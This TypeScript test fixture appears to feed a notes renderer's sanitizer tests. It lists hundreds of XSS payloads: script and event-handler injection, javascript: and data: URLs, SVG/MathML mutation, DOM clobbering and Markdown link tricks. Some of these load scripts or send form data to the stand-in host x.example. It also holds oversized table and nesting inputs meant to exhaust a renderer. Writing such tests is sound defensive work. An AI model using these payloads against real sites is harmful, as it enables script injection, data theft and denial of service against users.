/** Where an attack would call home; the name is reserved and leads nowhere. */
const ELSEWHERE = 'https://x.example';

const TYPED = [
  '<script>alert(1)</script>',
  '<script src="https://x.example/a.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onload="alert(1)" style="position:fixed">',
  '<img/src=x/onerror=alert(1)//',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<body onload=alert(1)><input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a><a href="blob:https://x.example/1">x</a><a href="file:///etc/passwd">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><a xlink:href="javascript:alert(1)">x</a><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[x]]><?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;',
  '<template><img src=x onerror=alert(1)></template><div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  '<table><td><form><input></td><script>alert(1)</script></table><select><img src=x onerror=alert(1)></select>',
  '<iframe src="https://x.example"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><applet code="x"></applet><portal src="https://x.example"></portal>',
  '<form action="https://x.example"><input name=a><button formaction="javascript:alert(1)">b</button></form>',
  '<base href="https://x.example/">',
  '<meta http-equiv="refresh" content="0;url=https://x.example">',
  '<link rel="stylesheet" href="https://x.example/a.css"><style>@import "https://x.example/b.css";*{display:none}</style>',
  '<video src="https://x.example/a.mp4" poster="https://x.example/a.png"></video><audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video><track src="https://x.example/t"><marquee onstart=alert(1)>x</marquee>',
  '<p id="session" name="document" class="hero" data-x="1" style="background:url(https://x.example)">a</p>',
  '<details open ontoggle=alert(1)>x</details><dialog open>x</dialog><p popover>x</p><p contenteditable>x</p>',
  '<x onpointerover=alert(1) style="animation-name:x" onanimationstart=alert(1)>x</x><custom-element is="a">x</custom-element>',
  '<h1>not mine</h1></div></article></main><footer>out of its place</footer>',
  '<img src="/\\x.example/a.png"><a href="/\\x.example">x</a><a href="//x.example">x</a>',
  '<img src="/&#9;/x.example/a.png"><a href="/&#10;/x.example">x</a><a href="/.//x.example">x</a>',
  '<a href="https:x.example">x</a><a href="http:/x.example">x</a><a href="/&#9;\\x.example">x</a>',
  '<a href="https://x.example" target="_blank" ping="https://x.example/p" download>x</a>',
  '<img srcset="https://x.example/a.png 2x" src="/art/a.webp" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
];

/** Ids and names that a page's own scripts ask for. */
const CLOBBERING = [
  ...['main', 'cookie', 'body', 'forms', 'location', 'createElement', 'getElementById', 'currentScript', 'defaultView'],
  ...['querySelector', 'localStorage', 'documentElement', 'parentNode', 'attributes', 'nodeName', 'alert', '__proto__'],
].map(
  (name) => `<a id="${name}" name="${name}" href="/x">x</a><form id="${name}"><img name="${name}" id="${name}"></form>`,
);

const MARKDOWN = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x]( javascript:alert(1) "t")',
  '[x](<javascript:alert(1)>)',
  '[x](java\tscript:alert(1)) [x](<java\nscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](  javascript&colon;alert(1)) [x](javascript&#58;alert(1)) [x](javascript&#x3a;alert(1))',
  '[x](\\javascript:alert(1)) [x](javascript\\:alert(1)) [x](%6Aavascript:alert(1))',
  '[x][1] ![x][1]\n\n[1]: javascript:alert(1) "t"',
  '<javascript:alert(1)> <data:text/html,x> <JaVaScRiPt:alert(1)>',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://x.example/pixel.png) ![x](//x.example/a.png) ![x](/\\x.example/a.png)',
  '![x"onerror="alert(1)](/a.png)',
  "![x' onerror='alert(1)](/a.png 'y\" onerror=\"alert(1)')",
  '[x](/a "onmouseover=alert(1)") [x](/a \'"><script>alert(1)</script>\')',
  '[x](/a"onclick="alert(1)) [<img src=x onerror=alert(1)>](/a)',
  '[x](https://x.example/"onmouseover="alert(1))',
  '[a](https://good.example@x.example/) [a](https://x.example\\@good.example)',
  '![x](</\t/x.example/a.png>) [x](</\t/x.example>) ![x](/&Tab;/x.example/a.png)',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '`</code><img src=x onerror=alert(1)>` ``<script>alert(1)</script>``',
  '    <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '> <details open ontoggle=alert(1)>\n\n- <svg onload=alert(1)>\n\n# <script>alert(1)</script>\n\n<div\nonclick=alert(1)>',
  '**<b onclick=alert(1)>** *~~<i onmouseover=alert(1)>~~* ||<s onclick=alert(1)>||',
  '[[<img src=x onerror=alert(1)>]] [[" onclick="alert(1)]] [[javascript:alert(1)]]',
  '<@<script>alert(1)</script>> <:<img src=x onerror=alert(1)>:1> <a:b:1 onclick=alert(1)> </x<script>:12>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;script&amp;gt;',
  'www.x.example/"onmouseover="alert(1) https://x.example/<script>alert(1)</script> a@x.example?subject=<b>',
  '- [x] <input type=checkbox checked onclick=alert(1)>\n- [ ] b\n\n[^1]: <script>alert(1)</script>',
  '<!--part:footer en--> {{constructor.constructor("alert(1)")()}} $\u007balert(1)} %3Cscript%3Ealert(1)%3C/script%3E',
];

/** Signs and lengths that parsers trip over. */
const ODD = [
  'a\0b <scr\0ipt>alert(1)</scr\0ipt> \ud800 \udfff \ufffe',
  '\u202egnp.exe\u202c \u2066<script>alert(1)</script>\u2069 \u200b\u200d\ufeff \u2028\u2029',
  '\u001b[31m\u0007\u0008 \u0085 \u00ad',
  `${'<b>'.repeat(60)}<script>alert(1)</script>`,
  `${'> '.repeat(300)}<img src=x onerror=alert(1)>`,
  `${'1. - '.repeat(150)}<img src=x onerror=alert(1)>`,
  `${'['.repeat(200)}x${']('.repeat(100)}javascript:alert(1))`,
  `${'*a **b '.repeat(40)}<svg onload=alert(1)>`,
  `<img src=x onerror=alert(1) ${'a '.repeat(500)}`,
  `[${'x'.repeat(999)}](javascript:${'a'.repeat(999)})`,
  `\`\`\`\n<script>alert(1)`,
  '<a href="',
  '<!--',
  '<![CDATA[',
];

/** What somebody may write into a note to make it do something, each a note of its own. */
export const HOSTILE_NOTES: readonly string[] = [...TYPED, ...CLOBBERING, ...MARKDOWN, ...ODD];

/** Hosts that a page may be sent to by a click, but never asks by itself. */
export const ELSEWHERE_HOST = new URL(ELSEWHERE).hostname;

const row = (cell: string, columns: number): string => `${`|${cell}`.repeat(columns)}|\n`;

/** A table as it is written: its rows have their first cell only, the renderer fills in the others. */
export const sparseTable = (columns: number, rows: number): string =>
  row('a', columns) + row('-', columns) + '|a\n'.repeat(rows);

/** Notes of at most 50 kB that take a renderer seconds, all memory or all its stack. */
export const ENDLESS_NOTES: [what: string, content: string, why: RegExp][] = [
  ['a table of millions of cells', sparseTable(300, 9000), /more than 10000 cells/],
  ['the same in a quote', sparseTable(300, 4000).replace(/^/gm, '> '), /more than 10000 cells/],
  ['a second table that breaks the first off', `|a|\n|-|\n# b\n${sparseTable(300, 9000)}`, /more than 10000 cells/],
  ['quotes without end that look like code', `\`\n${'>'.repeat(5000)} a\``, /more than 100 quotes or lists/],
  ['lists without end that look like code', `\`\n${'- '.repeat(5000)} a\``, /more than 100 quotes or lists/],
  ['brackets without end', '['.repeat(50_000), /longer than 30000 characters/],
];
